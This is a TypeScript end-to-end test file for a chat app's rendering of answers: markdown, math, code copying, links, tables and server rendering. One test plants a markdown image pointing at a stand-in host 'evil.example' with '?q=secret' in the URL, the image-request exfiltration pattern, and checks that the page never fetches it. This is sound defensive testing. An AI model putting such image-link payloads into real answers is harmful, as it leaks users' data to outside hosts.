import { glob, readFile } from 'node:fs/promises'
import { dirname, join } from 'node:path'
import type { Page } from 'playwright'
import { describe, expect, inject, test } from 'vitest'
import { pngOf } from '../pictures.ts'
import {
  alive,
  answer,
  apiResult,
  ask,
  inConversation,
  member,
  release,
  reload,
  script,
  send,
} from './harness/index.ts'

const text = (page: Page) => answer(page).locator('.prose-text')

/** A member's page that has asked a question, with what the page has said to its console. */
async function asked(question: string): Promise<{ page: Page; console: string[] }> {
  const page = await member()
  const console: string[] = []
  page.on('console', (message) => console.push(message.text()))
  await ask(page, question)
  return { page, console }
}

/** The answer as it is drawn, less what differs from one drawing to the next. */
const drawn = async (page: Page) =>
  (await text(page).innerHTML())
    .replace(/<!--.*?-->/g, '')
    .replace(/ (id|style|data-token|class)="[^"]*"/g, '')
    .replace(/<\/?span>/g, '')

const everything = `# Title

**重要：**注意してください。 It costs $5 now and $9 later, but $x^2$ and \\(y\\) are math.

\\[
\\frac{a}{b}
\\]

| a | b |
|---|---|
| 1 | 2 |

\`\`\`typescript
const answer: number = 42 // life
\`\`\`

- one
- two [link][later] and a note[^1]

[later]: /files/5#page=2

[^1]: The note.
`

test('what was streamed looks the same after a reload', async () => {
  const tokens = everything.match(/[^]{1,7}/g)!.map((say) => ({ say }))
  await script('same', tokens.slice(0, 30).concat([{ hold: true }, ...tokens.slice(30)] as never))
  const { page, console } = await asked('script:same')
  await text(page).locator('h1').waitFor()
  await release('same')
  await send(page).waitFor()
  await text(page).locator('.katex-display').waitFor()
  await text(page).locator('[data-token=keyword]').first().waitFor()
  expect(await text(page).locator('.katex').count()).toBe(3)
  expect(await text(page).innerText()).toContain('It costs $5 now and $9 later')
  const streamed = await drawn(page)
  await page.reload()
  await text(page).locator('.katex-display').waitFor()
  await text(page).locator('[data-token=keyword]').first().waitFor()
  expect(await drawn(page)).toBe(streamed)
  expect(console.filter((line) => /Content Security Policy|hydrat/i.test(line))).toEqual([])
})

test('math is drawn with its own fonts, from the product itself', async () => {
  await script('fonts', [{ say: '$\\mathbb{R} \\int x$' }])
  const { page } = await asked('script:fonts')
  await text(page).locator('.katex').waitFor()
  await page.evaluate(() => document.fonts.ready)
  const loaded = await page.evaluate(() =>
    [...document.fonts]
      .filter(({ family, status }) => family.startsWith('KaTeX') && status === 'loaded')
      .map(({ family }) => family),
  )
  expect(loaded.length).toBeGreaterThan(0)
})

test('of an answer with hundreds of formulas those are drawn that are near, and the others once they are', async () => {
  const formulas = Array.from({ length: 1000 }, (_, index) => `Formula $x_{${index + 1}}$ of many.\n\n`)
  await script('many-formulas', [{ say: formulas.join('') }])
  const { page } = await asked('script:many-formulas')
  await send(page).waitFor()
  await reload(page)
  const far = text(page).locator('p', { has: page.locator('code') })
  await text(page).locator('p').nth(999).waitFor({ state: 'attached' })
  await text(page).locator('p').last().locator('.katex').waitFor()
  expect(await far.count()).toBeGreaterThan(100)
  const waiting = far.nth(50)
  const name = /x_\{\d+\}/.exec((await waiting.textContent())!)![0]
  await waiting.scrollIntoViewIfNeeded()
  const there = text(page).locator('p', { hasText: new RegExp(`${name.replaceAll(/[{}]/g, '\\$&')}`) })
  await there.locator('.katex').first().waitFor()
})

test('code is copied as it was written', async () => {
  await script('code', [{ say: '```python\ndef f(x):\n    return x\n\nf(1)\n```\n' }])
  const { page } = await asked('script:code')
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
  await text(page).getByRole('button', { name: 'Copy code' }).click()
  await page.getByText('Copied to clipboard').waitFor()
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('def f(x):\n    return x\n\nf(1)')
})

test('a link to a file opens the preview at its page, any other that is not of the web is refused', async () => {
  await script('links', [
    { say: '[the file](/files/1#page=2), [elsewhere](/admin/users), [web](https://example.com/)' },
  ])
  const { page, console } = await asked('script:links')
  await text(page).getByRole('button', { name: 'elsewhere' }).click()
  expect(console).toContain('Invalid url format. Use "/files/5" or "/files/5#page=2"')
  expect(await text(page).getByRole('link', { name: 'web' }).getAttribute('target')).toBe('_blank')
  await text(page).getByRole('link', { name: 'the file' }).click()
  await page.waitForURL(/preview=1&preview_page=2/)
})

test('an image from elsewhere is never asked for', async () => {
  await script('image', [{ say: '![plan](https://evil.example/?q=secret) <img src="https://evil.example/2"> done' }])
  const { page } = await asked('script:image')
  const asks: string[] = []
  page.on('request', (request) => asks.push(request.url()))
  await text(page).getByText('done').waitFor()
  await send(page).waitFor()
  await page.reload()
  await text(page).getByRole('link', { name: 'plan (evil.example)' }).waitFor()
  expect(asks.filter((url) => url.includes('evil.example'))).toEqual([])
  expect(await page.locator('img[src*=evil], link[href*=evil]').count()).toBe(0)
})

test('a long table keeps its columns where they are while rows are added', async () => {
  const row = (number: number) => `| ${number} | some words |\n`
  const rows = (from: number, to: number) => Array.from({ length: to - from }, (_, index) => row(from + index)).join('')
  await script('table', [{ say: `| # | b |\n|---|---|\n${rows(0, 60)}` }, { hold: true }, { say: rows(60, 120) }])
  const { page } = await asked('script:table')
  await text(page).locator('td', { hasText: /^59$/ }).waitFor({ state: 'attached' })
  const width = () =>
    text(page)
      .locator('table')
      .evaluate((table: HTMLTableElement) => table.rows[0]!.cells[1]!.offsetLeft)
  const before = await width()
  await release('table')
  await text(page).locator('td', { hasText: /^119$/ }).waitFor({ state: 'attached' })
  expect(await width()).toBe(before)
  expect(await text(page).locator('tr').count()).toBe(121)
  await send(page).waitFor()
  await page.reload()
  await text(page).locator('td', { hasText: /^119$/ }).waitFor({ state: 'attached' })
  expect(await width()).toBe(before)
})

describe('a conversation that is loaded anew', () => {
  test.each([
    { language: 'en', phone: false },
    { language: 'ja', phone: true },
  ] as const)('comes drawn by the server and does not move, in $language', async ({ language, phone }) => {
    const name = `anew-${language}`
    await script(name, [{ say: `${everything}\n\n`.repeat(3) }])
    const page = await member({
      language,
      ...(phone && { viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true, colorScheme: 'dark' }),
    })
    const problems: string[] = []
    page.on('console', (message) => message.type() === 'error' && problems.push(message.text()))
    page.on('pageerror', (error) => problems.push(error.message))
    await page.getByRole('textbox').last().fill(`script:${name}`)
    await page.getByRole('textbox').last().press('Enter')
    await inConversation(page)
    await page.getByRole('log').and(page.locator('[aria-busy=false]')).waitFor()

    const html = await (await page.context().request.get(page.url(), { headers: browserHeaders })).text()
    const sent = html.slice(html.indexOf('role="log"'), html.indexOf('id="end-of-messages"'))
    expect(sent).toContain('<strong>重要：</strong>注意')
    expect(sent.match(/class="katex-display"/g)).toHaveLength(3)
    expect(sent).not.toMatch(/\*\*|\[:&|\\\(|\|---/)
    const time = (await page.locator('[role=log] time').last().innerText()).trim()
    expect(sent).toContain(`>${time}</time>`)

    await page.addInitScript(() => {
      const watched = window as { moved?: number }
      watched.moved = 0
      new PerformanceObserver((list) => {
        for (const shift of list.getEntries() as (PerformanceEntry & { value: number })[]) watched.moved! += shift.value
      }).observe({ type: 'layout-shift', buffered: true })
    })
    await page.reload()
    await alive(page)
    await page.locator('[data-token=keyword]').last().waitFor()
    expect(await page.evaluate(() => (window as { moved?: number }).moved)).toBeLessThanOrEqual(0.02)
    const box = page.locator('[data-scroller]')
    expect(await box.evaluate((it) => it.scrollHeight - it.scrollTop - it.clientHeight)).toBeLessThan(2)
    expect(problems).toEqual([])
  })

  test('takes over what a browser makes of HTML that is not well nested', async () => {
    await script('nested', [
      {
        say: 'one <div>two</div> three\n\n<table><tr><td>four <p>five <ul><li>six</table>\n\n[a ![b](https://a.example/b.png)](https://b.example)',
      },
    ])
    const { page, console } = await asked('script:nested')
    await text(page).getByText('six').waitFor()
    await send(page).waitFor()
    const before = await drawn(page)
    await reload(page)
    expect(await drawn(page)).toBe(before)
    expect(console.filter((line) => /hydrat|#418|#42\d/i.test(line))).toEqual([])
  })
})

test("a picture among the reader's files shows in an answer, in the server's page with its room", async () => {
  const body = new FormData()
  body.append('files', new File([pngOf(320, 200)], 'plan.png'))
  const app = inject('scriptedAppUrl')
  const { files } = await apiResult<{ files: { id: number }[] }>('user', '/v1/files/upload', { app, body })
  await script('picture', [{ say: `Here: ![the plan](/files/${files[0]!.id}) and ![x](/v1/openapi.json) done` }])
  const { page } = await asked('script:picture')
  const picture = text(page).getByRole('img', { name: 'the plan' })
  const shown = () => picture.evaluate(({ naturalWidth, width }: HTMLImageElement) => [naturalWidth, width])
  await expect.poll(shown).toEqual([320, 320])
  await send(page).waitFor()

  const html = await (await page.context().request.get(page.url(), { headers: browserHeaders })).text()
  expect(html).toMatch(/<img [^>]*alt="the plan"[^>]*style="width:320px;aspect-ratio:1.6/)
  await page.reload()
  await expect.poll(shown).toEqual([320, 320])
  await text(page).getByRole('link', { name: 'Open the plan' }).click()
  await page.waitForURL(new RegExp(`preview=${files[0]!.id}`))
})

/** With them the server sends its page as to a browser, piece by piece. */
const browserHeaders = { 'user-agent': 'Mozilla/5.0 Chrome/156.0', accept: 'text/html' }

test("what draws answers is no part of the Worker's start, and no highlighter of the Worker", async () => {
  const start = await startOf('dist/server/index.js')
  expect([...start.values()].filter((code) => /katex|hast-util-to-jsx|react-markdown|micromark/i.test(code))).toEqual(
    [],
  )
  for await (const path of glob('dist/server/**/*.js')) expect(path).not.toMatch(/highlight-worker/)
})

test('the Worker that answers people has nothing that draws or parses documents', async () => {
  for await (const path of glob('dist/server/**/*')) expect(path).not.toMatch(/\.wasm$|vega|jschardet|docx/)
})

/** A module with all that it imports statically, by their paths. */
async function startOf(path: string, found = new Map<string, string>()): Promise<Map<string, string>> {
  if (found.has(path)) return found
  const code = await readFile(path, 'utf8')
  found.set(path, code)
  for (const [, imported] of code.matchAll(
    /(?:^|[;\n}])\s*(?:import|export)\s*(?:[^"'`;()]*?from\s*)?["'](\.[^"']+)["']/g,
  ))
    await startOf(join(dirname(path), imported!), found)
  return found
}
